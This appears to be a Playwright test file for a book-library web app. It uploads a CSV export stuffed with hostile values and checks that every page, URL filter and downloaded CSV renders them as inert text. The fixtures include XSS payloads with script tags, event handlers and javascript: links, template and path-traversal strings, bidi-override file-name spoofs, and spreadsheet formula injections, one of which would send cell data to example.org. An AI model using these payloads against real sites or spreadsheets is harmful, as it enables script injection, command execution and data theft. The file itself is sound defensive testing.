"""An export that attacks its reader: whatever stands in its cells is shown as text, on every page."""

import csv
import re
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlencode

import pytest
from playwright.sync_api import Dialog, Page, expect

from tests.browser.cards import card, table_of
from tests.browser.conftest import OpenPage, assert_accessible
from tests.support.exports import HEADER, make_csv, make_row
from tests.support.site import Site

HANDLER = "window.owned=1"
TEXTS = {
    "markup": f'"><img src=x onerror="{HANDLER}"><script>{HANDLER}</script>',
    "closing tags": f"</textarea></title></style></script><svg onload={HANDLER}>",
    "a frame": f"<iframe srcdoc='<script>top.owned=1</script>'></iframe><base href=//example.org>{HANDLER}",
    "an attribute": f"' onmouseover='{HANDLER}' autofocus onfocus='{HANDLER}' x='",
    "a script address": f"javascript:{HANDLER}//",
    "a template": "${alert(1)}{{constructor.constructor('alert(1)')()}}<%= 7*7 %>",
    "a formula": '=HYPERLINK("http://example.org/?"&A1;"open")',
    "a command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "entities": "&lt;b&gt; &amp;quot; &#60;script&#62;",
    "prototype": "__proto__",
    "right to left": "كتاب الحب والحرب",
    "Hebrew": "ספר הג'ונגל",
    "Chinese": "百年の孤独と長い題名の本",
    "an override of direction": "\u202egnp.exe\u202c \u2066isolated\u2069 \u200fmark",
    "an unclosed override": "safe \u202etxt.exe",
    "combining marks": "Z\u0351\u036b\u0343a\u0321\u0310l\u035ago",
    "an emoji": "👩‍👩‍👧‍👦 family 🏴‍☠️",
    "a long word": "A" * 400,
    "a long sentence": "long words " * 36,
    "a path": "../../../etc/passwd\\..\\x",
    "a placeholder": "%s %n {0} %00",
}
REVIEW_TAGS = {"A", "B", "BLOCKQUOTE", "BR", "I", "LI", "S", "UL", "SPAN", "BUTTON"}
REVIEW = (
    "{text}<a href='javascript:window.owned=1'>one</a><a href='https://example.org/' onclick='window.owned=1'>two</a>"
    "<a href='data:text/html,x'>three</a><img src=x onerror='window.owned=1'>"
    "<svg><animate onbegin='window.owned=1'></svg>"
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.owned=1&gt;'>"
    "<form><input name=action><button formaction='javascript:window.owned=1'>send</button></form>"
    "<div id=main class=card style='position:fixed;inset:0'>over</div><link rel=stylesheet href=//example.org/x.css>"
    "<spoiler>hidden {text}</spoiler><b>bold</b>"
)
PLAIN_FIELDS = (
    "Title",
    "Author",
    "Author l-f",
    "Additional Authors",
    "Publisher",
    "Binding",
    "Bookshelves",
    "Bookshelves with positions",
    "Private Notes",
)

STRANGE_ELEMENTS = "script, img, iframe, object, embed, form, base, style, link, svg animate, math"
NOTHING_RAN = f"""() => ({{
  owned: window.owned ?? null,
  strange: [...document.body.querySelectorAll({STRANGE_ELEMENTS!r})].map((element) => element.outerHTML),
  handlers: [...document.querySelectorAll("body *")].flatMap((element) =>
    element.getAttributeNames().filter((name) => /^on/i.test(name)).map((name) => `${{element.tagName}} ${{name}}`)),
  links: [...document.querySelectorAll("[href], [src], [action], [formaction]")]
    .map((element) => element.getAttribute("href") ?? element.getAttribute("src") ?? "action")
    .filter((address) => !/^(\\/|https?:|#)/.test(address)),
}})"""


def hostile_row(number: int, text: str) -> dict[str, str]:
    """A book with the text in every field; each second one is finished, so that the charts have it too."""
    fields = dict.fromkeys(PLAIN_FIELDS, text)
    row = make_row(number)
    row.update(fields)
    row["My Review"] = REVIEW.format(text=text)
    row["Date Read"] = f"2026/{number % 9 + 1:02}/{number % 27 + 1:02}"
    row["Number of Pages"] = str(200 + 20 * number)
    if number % 4 == 0:
        row["Exclusive Shelf"] = text
    return row


def broken_row(number: int, text: str) -> dict[str, str]:
    """A book whose numbers and dates are that text, so that the import report tells of it."""
    row = dict.fromkeys(HEADER, text)
    row.update({"Title": f"Broken {number}", "Exclusive Shelf": "read", "My Review": ""})
    return row


@pytest.fixture(scope="module")
def library(site: Site) -> str:
    rows = [hostile_row(number, text) for number, text in enumerate(TEXTS.values(), 1)]
    rows += [broken_row(number, text) for number, text in enumerate(TEXTS.values(), 1)]
    return site.finished(site.upload(make_csv(rows)))


@pytest.fixture
def open_safely(open_page: OpenPage) -> Iterator[OpenPage]:
    """Open a page; at the end nothing of the export may have run in any of them, and no dialog may have opened."""
    pages: list[Page] = []
    dialogs: list[str] = []

    def on_dialog(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    def open_(path: str, **options: bool) -> Page:
        page = open_page(path, **options)
        page.on("dialog", on_dialog)
        pages.append(page)
        return page

    yield open_
    for page in pages:
        assert_nothing_ran(page)
    assert dialogs == []


def assert_nothing_ran(page: Page) -> None:
    assert page.evaluate(NOTHING_RAN) == {"owned": None, "strange": [], "handlers": [], "links": []}


def as_shown(text: str) -> str:
    """The text as a page shows it: runs of white space are one."""
    return re.sub(r"\s+", " ", text).strip()


def titles_shown(page: Page) -> set[str]:
    return {as_shown(text) for text in page.locator(".book-link").all_text_contents()}


@pytest.mark.parametrize("phone", [False, True])
def test_the_table_shows_every_text_as_text(open_safely: OpenPage, library: str, *, phone: bool) -> None:
    page = open_safely(f"/l/{library}/books", phone=phone)
    page.get_by_text("Columns", exact=True).click()
    for column in ("Shelves", "Genres", "Added"):
        page.get_by_label(column, exact=True).check()
    page.get_by_role("button", name="Show all").click()
    expect(page.locator(".book-link")).to_have_count(2 * len(TEXTS))
    assert titles_shown(page) >= {as_shown(text) for text in TEXTS.values()}
    authors = {as_shown(text) for text in page.locator(".cell-author").all_text_contents()}
    assert authors >= {as_shown(text) for text in TEXTS.values()}
    assert page.evaluate("document.documentElement.scrollWidth") == (390 if phone else 1440)
    assert_accessible(page)


def test_one_direction_of_writing_does_not_leak_into_the_next_cell(open_safely: OpenPage, library: str) -> None:
    page = open_safely(f"/l/{library}/books")
    isolated = page.locator(".book-row bdi").evaluate_all("all => all.map((one) => getComputedStyle(one).unicodeBidi)")
    assert isolated
    assert set(isolated) <= {"isolate", "isolate-override", "plaintext"}
    lines = page.locator(".book-link").evaluate_all("all => all.map((one) => one.firstElementChild?.localName)")
    assert set(lines) == {"bdi"}


def test_the_page_of_a_book_shows_every_text_as_text(open_safely: OpenPage, library: str) -> None:
    page = open_safely(f"/l/{library}/books/1")
    for number, text in enumerate(TEXTS.values(), 1):
        page.goto(f"/l/{library}/books/{number}")
        expect(page.locator(".review-text b").last).to_have_text("bold")
        assert as_shown(page.get_by_role("heading", level=1).text_content() or "") == as_shown(text)
        for place in (".book-by", ".cover-title", ".cover-author", ".facts:has(dd bdi)"):
            assert as_shown(text) in as_shown(page.locator(f"main {place}").last.text_content() or ""), place
        assert page.evaluate("document.documentElement.scrollWidth") == 1440
        assert_the_review_is_tame(page)
        assert_nothing_ran(page)


def assert_the_review_is_tame(page: Page) -> None:
    """Eight tags and our own buttons are left, one link of three, and it lies where it belongs."""
    review = page.locator(".review-text")
    for button in review.get_by_role("button", name="Show spoiler").all():
        button.click()
    assert set(review.locator("*").evaluate_all("all => all.map((one) => one.tagName)")) <= REVIEW_TAGS
    links = review.locator("a").evaluate_all("all => all.map((one) => `${one.getAttributeNames()} ${one.href}`)")
    assert set(links) == {"href,rel https://example.org/"}
    assert review.locator("[id], [style], [class=card]").count() == 0
    assert review.evaluate("review => review.closest('.card').contains(review)")


@pytest.mark.parametrize("phone", [False, True])
def test_the_overview_shows_every_text_as_text(open_safely: OpenPage, library: str, *, phone: bool) -> None:
    page = open_safely(f"/l/{library}", phone=phone)
    titles = {as_shown(text) for text in TEXTS.values()}
    for name in ("piles", "months", "stars", "just-finished"):
        found = card(page, name)
        found.hover()
        if name == "just-finished":
            covers = found.locator(".cover-title")
            expect(covers).not_to_have_count(0)
            assert {as_shown(text) for text in covers.all_text_contents()} <= titles
        if found.get_by_role("button", name="Show as a table").count():
            assert len(table_of(page, name)) > 1
    assert page.evaluate("document.documentElement.scrollWidth") == (390 if phone else 1440)


def test_the_import_report_shows_every_text_as_text(open_safely: OpenPage, library: str) -> None:
    page = open_safely(f"/import/{library}")
    table = page.get_by_role("table", name="Rows that were noted or rejected")
    expect(table).to_contain_text("<script>")
    expect(table).to_contain_text("=HYPERLINK(")
    assert page.evaluate("document.documentElement.scrollWidth") == 1440


@pytest.mark.parametrize("key", ["q", "author", "shelf", "genre"])
def test_a_filter_in_the_address_is_shown_as_text(open_safely: OpenPage, library: str, key: str) -> None:
    page = open_safely("/import")
    for text in list(TEXTS.values())[:10]:
        page.goto(f"/l/{library}/books?{urlencode({key: text})}")
        expect(page.locator("main h1")).to_contain_text("on your shelves")
        assert_nothing_ran(page)


@pytest.mark.parametrize(
    "query",
    [
        "sort=<script>&by=<b>&win=x-y",
        "sort=__proto__&unit=%00&years=9-1-1",
        "sort=-constructor&pages=x&rating=9&months=13",
    ],
)
def test_nonsense_in_the_address_means_the_default(open_safely: OpenPage, library: str, query: str) -> None:
    page = open_safely(f"/l/{library}?{query}")
    expect(page.locator("[data-card=piles] h2")).to_be_visible()
    page.goto(f"/l/{library}/books?{query}")
    expect(page.get_by_role("heading", level=1)).to_contain_text("on your shelves")


@pytest.mark.parametrize("id_", ["%3Cimg%20src=x%20onerror=owned=1%3E", "__proto__", "row-1%3Cb%3E", "%E2%80%AE"])
def test_an_id_that_is_no_book_is_told_kindly(open_safely: OpenPage, library: str, id_: str) -> None:
    page = open_safely(f"/l/{library}/books/{id_}")
    expect(page.get_by_role("heading", level=1)).to_have_text("This library has no such book")


def test_the_file_that_is_taken_along_runs_nothing_in_a_spreadsheet(open_safely: OpenPage, library: str) -> None:
    page = open_safely(f"/l/{library}/books")
    with page.expect_download() as download:
        page.get_by_role("button", name="Download as CSV").click()
    rows = list(csv.reader(Path(download.value.path()).read_text(encoding="utf-8-sig").splitlines()))
    cells = [cell for row in rows for cell in row]
    assert [cell for cell in cells if re.match(r"\s*[=+@-]", cell)] == []
    written = {as_shown(text) for row in rows for text in (row[0], row[0].removeprefix("'"))}
    assert written >= {as_shown(text) for text in TEXTS.values()}


def test_a_file_name_is_shown_as_text(open_safely: OpenPage) -> None:
    page = open_safely("/import")
    name = f"<img src=x onerror={HANDLER}>.csv"
    page.locator('input[type="file"]').first.set_input_files(
        {"name": name, "mimeType": "text/csv", "buffer": make_csv([hostile_row(1, TEXTS["markup"])])}
    )
    expect(page).to_have_url(re.compile("/l/"))
    page.goto("/import")
    expect(page.get_by_text(name)).to_be_visible()
